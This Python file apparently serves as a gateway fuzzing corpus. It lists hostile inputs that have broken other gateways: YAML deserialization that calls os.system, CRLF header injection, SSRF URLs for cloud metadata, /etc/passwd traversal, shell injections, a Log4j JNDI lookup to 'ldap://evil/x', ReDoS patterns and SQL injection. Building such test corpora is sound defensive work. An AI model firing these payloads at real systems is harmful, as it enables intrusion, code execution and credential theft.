"""Texts that have broken other gateways, by what they break."""

PAYLOADS: dict[str, tuple[str, ...]] = {
    "yaml": (
        "a: b", "- x", "x\n- y", "|\n  x", "!!python/object/apply:os.system ['id']", "!!binary AAAA", "&a *a", "*a",
        "<<: *x", "---\nkind: Pod", "...\n", "%YAML 1.2", "? x\n: y", "{a: b}", "[x]", "'", '"', "#", "no", "~", "null",
        "1e3", "0o7", "0x1f", "2026-01-01", ".inf", "=", "yes\n",
    ),
    "lines": (
        "x\r\nHost: evil", "x\r\n\r\nGET / HTTP/1.1", "x\ny: z", "\r", "\n", "\0", "x\0y", "x\x1b[2J", "x\x7f", "x\x85y",
        "x\u2028y", "x\x0by", "\t",
    ),
    "types": (
        "type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua",
        '{"@type": "type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua", "inline_code": "os.execute()"}',
        "@type", "typed_config", "envoy.filters.http.lua", "type.googleapis.com/google.protobuf.Any", "__proto__",
        "inline_string", "tcp://169.254.169.254:80", "http://169.254.169.254/latest/meta-data/", "unix:///run/x.sock",
    ),
    "regex": (
        "(a+)+$", ".*", "^", "(?i)x", "(?=x)", "[", ")", "a{1000}{1000}", "\\C", "\\x{10FFFF}", "x|y", "a" * 5000,
        "(" * 200, "[[:alpha:]]", "$", "\\Q",
    ),
    "unicode": (
        "\u202eevil", "x\u200by", "\ufeffx", "s\u0435arch", "\uff53earch", "x\u0301", "\U0001f4a5", "x\u00ady", "\u3002",
        "\uff0e\uff0e\uff0f", "\u2215", "\u212a", "\u0130", "\u00df", "xn--", "xn--a", "\ue000", "x\u0000",
    ),
    "paths": (
        "../../etc/passwd", "..\\..\\x", "/etc/passwd", "%2e%2e/", "file:///etc/passwd", "//evil", "a/b", "a/../../b",
        ".", "..", "/", "~", "C:\\x", "a\\b", "%00", "/proc/self/environ", "kube-system/x", "istio-system",
    ),
    "commands": (
        "%REQ(authorization)%", "%DOWNSTREAM_PEER_CERT%", "%%", "%DYNAMIC_METADATA(x)%", "%ENVIRONMENT(HOME)%", "$(id)",
        "`id`", "; id", "${jndi:ldap://evil/x}", "{{ .Values.x }}", "{% x %}", "$(POD_IP)", "$$(x)", "<script>", "&&",
        "x-envoy-original-path", ":authority", "x-tidegate-probe", "host", "connection", "' or 1=1 --",
    ),
}  # fmt: skip
